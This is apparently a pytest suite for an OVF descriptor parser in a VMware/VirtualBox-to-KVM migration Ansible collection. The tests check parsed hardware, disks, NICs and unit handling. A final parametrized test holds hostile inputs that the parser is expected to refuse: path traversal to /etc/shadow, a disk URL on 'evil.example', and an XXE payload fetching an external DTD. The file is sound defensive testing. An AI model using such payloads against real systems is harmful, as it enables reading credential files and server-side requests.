"""OVF descriptors in the VMware (OVF 1.0/2.0) and VirtualBox dialects parsed into spec-shaped data."""

import pytest
from rig import ovf_package as pkg

from ansible_collections.v2kvm.migrate.plugins.module_utils._ovf_parse import (
    allocation_units_bytes,
    is_vmdk_format_url,
    parse_ovf,
    subformat_from_url,
)
from ansible_collections.v2kvm.migrate.plugins.module_utils._source_errors import (
    DescriptorError,
    UnsafeXmlError,
    UnsupportedSourceError,
)

GIB = 1 << 30


def _vmware(**overrides):
    options = dict(
        name="db01", vcpus=4, memory_mib=3072, firmware="uefi", os_type="rhel9_64Guest",
        os_description="Red Hat Enterprise Linux 9 (64-bit)", cores_per_socket=2, secure_boot=True,
        annotation="database, do not reboot",
        disks=[
            {"file": "db01-data.vmdk", "disk_id": "vmdisk2", "capacity_bytes": 40 * GIB, "size": 1000,
             "controller": "scsi", "unit": 1, "capacity_allocation_units": "byte * 2^30"},
            {"file": "db01-boot.vmdk", "disk_id": "vmdisk1", "capacity_bytes": 20 * GIB, "size": 2000,
             "controller": "scsi", "unit": 0, "populated_bytes": 123456},
            {"file": "db01-cd.vmdk", "disk_id": "vmdisk3", "capacity_bytes": GIB, "size": 3000,
             "controller": "sata", "unit": 0, "compression": "gzip"},
        ],
        nics=[{"mac": "00:50:56:AB:CD:EF", "network": "Prod LAN", "model": "vmxnet3"},
              {"network": "Backup", "model": "e1000e"}],
    )
    options.update(overrides)
    return pkg.render_ovf(**options).encode()


def test_vmware_descriptor_hardware():
    parsed = parse_ovf(_vmware(), "db01.ovf")
    assert parsed["name"] == "db01"
    assert (parsed["vcpus"], parsed["cores_per_socket"], parsed["memory_mib"]) == (4, 2, 3072)
    assert (parsed["firmware"], parsed["secure_boot"]) == ("uefi", True)
    assert parsed["guest_os"] == {"id": "rhel9_64Guest", "description": "Red Hat Enterprise Linux 9 (64-bit)"}
    assert parsed["annotation"] == "database, do not reboot"
    assert parsed["nics"] == [
        {"mac": "00:50:56:ab:cd:ef", "network": "Prod LAN", "model": "vmxnet3"},
        {"mac": None, "network": "Backup", "model": "e1000e"},
    ]


def test_vmware_disks_in_controller_then_unit_order_with_files():
    parsed = parse_ovf(_vmware(), "db01.ovf")
    disks = parsed["disks"]
    assert [(d["id"], d["controller"], d["unit"]) for d in disks] == [
        ("vmdisk1", "scsi", 0), ("vmdisk2", "scsi", 1), ("vmdisk3", "sata", 0)]
    assert [d["capacity_bytes"] for d in disks] == [20 * GIB, 40 * GIB, GIB]
    assert disks[0]["populated_bytes"] == 123456 and disks[1]["populated_bytes"] is None
    files = {parsed["files"][d["file_id"]]["href"]: parsed["files"][d["file_id"]] for d in disks}
    assert files["db01-boot.vmdk"] == {"href": "db01-boot.vmdk", "size": 2000, "compression": None}
    assert files["db01-cd.vmdk"]["compression"] == "gzip"


def test_bios_is_the_default_firmware():
    assert parse_ovf(_vmware(firmware="bios", secure_boot=False), "x.ovf")["firmware"] == "bios"


OVF2 = b"""<?xml version="1.0" encoding="UTF-8"?>
<ovf:Envelope xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/2"
    xmlns:rasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_ResourceAllocationSettingData"
    xmlns:sasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_StorageAllocationSettingData"
    xmlns:epasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_EthernetPortAllocationSettingData"
    xmlns:vmw="http://www.vmware.com/schema/ovf">
  <ovf:References><ovf:File ovf:href="app-disk1.vmdk" ovf:id="file1" ovf:size="512"/></ovf:References>
  <ovf:DiskSection><ovf:Info>disks</ovf:Info>
    <ovf:Disk ovf:capacity="8" ovf:capacityAllocationUnits="byte * 2^30" ovf:diskId="vmdisk1" ovf:fileRef="file1"
      ovf:format="http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized"/>
  </ovf:DiskSection>
  <ovf:DeploymentOptionSection><ovf:Info>sizes</ovf:Info>
    <ovf:Configuration ovf:id="small" ovf:default="true"><ovf:Label>small</ovf:Label></ovf:Configuration>
    <ovf:Configuration ovf:id="large"><ovf:Label>large</ovf:Label></ovf:Configuration>
  </ovf:DeploymentOptionSection>
  <ovf:VirtualSystem ovf:id="app01">
    <ovf:Info>vm</ovf:Info>
    <ovf:OperatingSystemSection ovf:id="36"><ovf:Info>os</ovf:Info><ovf:Description>Linux</ovf:Description>
      </ovf:OperatingSystemSection>
    <ovf:VirtualHardwareSection><ovf:Info>hw</ovf:Info>
      <ovf:Item ovf:configuration="small"><rasd:InstanceID>1</rasd:InstanceID><rasd:ResourceType>3</rasd:ResourceType>
        <rasd:VirtualQuantity>2</rasd:VirtualQuantity></ovf:Item>
      <ovf:Item ovf:configuration="large"><rasd:InstanceID>11</rasd:InstanceID><rasd:ResourceType>3</rasd:ResourceType>
        <rasd:VirtualQuantity>16</rasd:VirtualQuantity></ovf:Item>
      <ovf:Item><rasd:AllocationUnits>byte * 2^30</rasd:AllocationUnits><rasd:InstanceID>2</rasd:InstanceID>
        <rasd:ResourceType>4</rasd:ResourceType><rasd:VirtualQuantity>4</rasd:VirtualQuantity></ovf:Item>
      <ovf:Item><rasd:InstanceID>3</rasd:InstanceID><rasd:ResourceSubType>vmware.nvme.controller</rasd:ResourceSubType>
        <rasd:ResourceType>20</rasd:ResourceType></ovf:Item>
      <ovf:StorageItem><sasd:AddressOnParent>0</sasd:AddressOnParent>
        <sasd:HostResource>ovf:/disk/vmdisk1</sasd:HostResource><sasd:InstanceID>4</sasd:InstanceID>
        <sasd:Parent>3</sasd:Parent><sasd:ResourceType>17</sasd:ResourceType></ovf:StorageItem>
      <ovf:EthernetPortItem><epasd:Connection>Prod</epasd:Connection><epasd:InstanceID>5</epasd:InstanceID>
        <epasd:ResourceSubType>E1000</epasd:ResourceSubType><epasd:ResourceType>10</epasd:ResourceType>
        </ovf:EthernetPortItem>
      <vmw:Config ovf:required="false" vmw:key="firmware" vmw:value="bios"/>
    </ovf:VirtualHardwareSection>
  </ovf:VirtualSystem>
</ovf:Envelope>
"""


def test_ovf2_storage_and_ethernet_items_and_default_configuration():
    parsed = parse_ovf(OVF2, "app.ovf")
    assert parsed["name"] == "app01"
    assert parsed["vcpus"] == 2, "the CPU item of the non-default 'large' configuration must be ignored"
    assert parsed["memory_mib"] == 4096
    assert [(d["id"], d["controller"], d["unit"], d["capacity_bytes"]) for d in parsed["disks"]] == [
        ("vmdisk1", "nvme", 0, 8 * GIB)]
    assert parsed["nics"] == [{"mac": None, "network": "Prod", "model": "e1000"}]
    assert parsed["guest_os"] == {"id": "36", "description": "Linux"}


VIRTUALBOX = b"""<?xml version="1.0"?>
<Envelope ovf:version="1.0" xml:lang="en-US" xmlns="http://schemas.dmtf.org/ovf/envelope/1"
    xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/1"
    xmlns:rasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_ResourceAllocationSettingData"
    xmlns:vssd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_VirtualSystemSettingData"
    xmlns:vbox="http://www.virtualbox.org/ovf/machine">
  <References><File ovf:id="file1" ovf:href="vbox01-disk001.vmdk"/></References>
  <DiskSection><Info>disks</Info>
    <Disk ovf:capacity="2147483648" ovf:diskId="vmdisk1" ovf:fileRef="file1"
      ovf:format="http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized"/>
  </DiskSection>
  <VirtualSystem ovf:id="vbox01">
    <Info>A virtual machine</Info>
    <OperatingSystemSection ovf:id="96"><Info>os</Info><Description>Debian_64</Description>
      <vbox:OSType ovf:required="false">Debian_64</vbox:OSType></OperatingSystemSection>
    <VirtualHardwareSection><Info>hw</Info>
      <Item><rasd:Caption>1 virtual CPU</rasd:Caption><rasd:ElementName>1 virtual CPU</rasd:ElementName>
        <rasd:InstanceID>1</rasd:InstanceID><rasd:ResourceType>3</rasd:ResourceType>
        <rasd:VirtualQuantity>1</rasd:VirtualQuantity></Item>
      <Item><rasd:AllocationUnits>MegaBytes</rasd:AllocationUnits><rasd:InstanceID>2</rasd:InstanceID>
        <rasd:ResourceType>4</rasd:ResourceType><rasd:VirtualQuantity>1024</rasd:VirtualQuantity></Item>
      <Item><rasd:Address>0</rasd:Address><rasd:InstanceID>3</rasd:InstanceID>
        <rasd:ResourceSubType>PIIX4</rasd:ResourceSubType><rasd:ResourceType>5</rasd:ResourceType></Item>
      <Item><rasd:Address>0</rasd:Address><rasd:InstanceID>5</rasd:InstanceID>
        <rasd:ResourceSubType>AHCI</rasd:ResourceSubType><rasd:ResourceType>20</rasd:ResourceType></Item>
      <Item><rasd:AddressOnParent>0</rasd:AddressOnParent><rasd:HostResource>/disk/vmdisk1</rasd:HostResource>
        <rasd:InstanceID>7</rasd:InstanceID><rasd:Parent>5</rasd:Parent><rasd:ResourceType>17</rasd:ResourceType>
        </Item>
      <Item><rasd:AutomaticAllocation>true</rasd:AutomaticAllocation><rasd:Connection>NAT</rasd:Connection>
        <rasd:InstanceID>8</rasd:InstanceID><rasd:ResourceSubType>E1000</rasd:ResourceSubType>
        <rasd:ResourceType>10</rasd:ResourceType></Item>
    </VirtualHardwareSection>
    <vbox:Machine ovf:required="false" version="1.16-linux" uuid="{0}" name="vbox01"><ovf:Info>vbox</ovf:Info>
      <Hardware><Firmware type="EFI"/></Hardware>
    </vbox:Machine>
  </VirtualSystem>
</Envelope>
"""


def test_minimal_virtualbox_descriptor():
    parsed = parse_ovf(VIRTUALBOX, "vbox01.ovf")
    assert (parsed["name"], parsed["vcpus"], parsed["memory_mib"], parsed["firmware"]) == ("vbox01", 1, 1024, "uefi")
    assert [(d["id"], d["controller"], d["capacity_bytes"]) for d in parsed["disks"]] == [("vmdisk1", "sata", 2 * GIB)]
    assert parsed["files"]["file1"] == {"href": "vbox01-disk001.vmdk", "size": None, "compression": None}
    assert parsed["nics"] == [{"mac": None, "network": "NAT", "model": "e1000"}]


@pytest.mark.parametrize("units, factor", [
    (None, 1), ("byte", 1), ("bytes", 1), ("byte * 2^20", 1 << 20), ("byte*2^30", 1 << 30),
    ("byte * 1024", 1024), ("MegaBytes", 1 << 20), ("GigaBytes", 1 << 30), ("KB", 1024),
])
def test_allocation_units(units, factor):
    assert allocation_units_bytes(units, "x.ovf", "units") == factor


@pytest.mark.parametrize("units", ["hertz * 10^6", "furlong", "byte * 2^x", "byte * 2^99", "bit"])
def test_unknown_allocation_units_are_refused(units):
    with pytest.raises(DescriptorError, match="unknown units"):
        allocation_units_bytes(units, "x.ovf", "units")


def test_format_url_helpers():
    url = "http://www.vmware.com/interfaces/specifications/vmdk.html#streamOptimized"
    assert is_vmdk_format_url(url) and subformat_from_url(url) == "streamOptimized"
    assert subformat_from_url(url.replace("streamOptimized", "sparse")) == "monolithicSparse"
    assert not is_vmdk_format_url("http://en.wikipedia.org/wiki/Byte") and subformat_from_url("") is None


def _replace(old, new, **overrides):
    text = _vmware(**overrides)
    assert old.encode() in text
    return text.replace(old.encode(), new.encode(), 1)


@pytest.mark.parametrize("data, error, words", [
    (_replace('ovf:href="db01-data.vmdk"', 'ovf:href="../../etc/shadow"'), DescriptorError, "climbs out"),
    (_replace('ovf:href="db01-data.vmdk"', 'ovf:href="/etc/shadow"'), DescriptorError, "absolute"),
    (_replace('ovf:href="db01-data.vmdk"', 'ovf:href="https://evil.example/x.vmdk"'),
     UnsupportedSourceError, "is a URL"),
    (_replace('ovf:size="1000"', 'ovf:size="1000" ovf:chunkSize="100"'), UnsupportedSourceError, "chunkSize"),
    (_replace('ovf:size="1000"', 'ovf:size="lots"'), DescriptorError, "not an integer"),
    (_replace('ovf:capacity="40"', 'ovf:capacity="0"'), DescriptorError, "outside 1 byte .. 64 TiB"),
    (_replace('ovf:capacity="40"', 'ovf:capacity="${disk.size}"'), DescriptorError, "not expanded"),
    (_replace('ovf:capacity="40"', 'ovf:capacity="4000000"'), DescriptorError, "64 TiB"),
    (_replace('ovf:fileRef="file2"', 'ovf:fileRef="file1"'), DescriptorError, "used by two disks"),
    (_replace('ovf:fileRef="file2"', 'ovf:fileRef="file9"'), DescriptorError, "References does not list"),
    (_replace('ovf:diskId="vmdisk2"', 'ovf:diskId="vmdisk1"'), DescriptorError, "declared twice"),
    (_replace("ovf:/disk/vmdisk3", "ovf:/file/file3"), UnsupportedSourceError, "points straight at a file"),
    (_replace("<rasd:ResourceType>4</rasd:ResourceType>", "<rasd:ResourceType>99</rasd:ResourceType>"),
     DescriptorError, "no memory item"),
    (b'<?xml version="1.0"?><Envelope xmlns="urn:not-ovf"/>', DescriptorError, "not an OVF descriptor"),
    (b"<Envelope", DescriptorError, "not well-formed XML"),
    (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><x/>', UnsafeXmlError, "XXE"),
])
def test_broken_descriptors_are_refused(data, error, words):
    with pytest.raises(error, match=words.replace("$", r"\$").replace("{", r"\{").replace(".", r"\.")) as caught:
        parse_ovf(data, "db01.ovf")
    assert "db01.ovf" in str(caught.value) and caught.value.fix
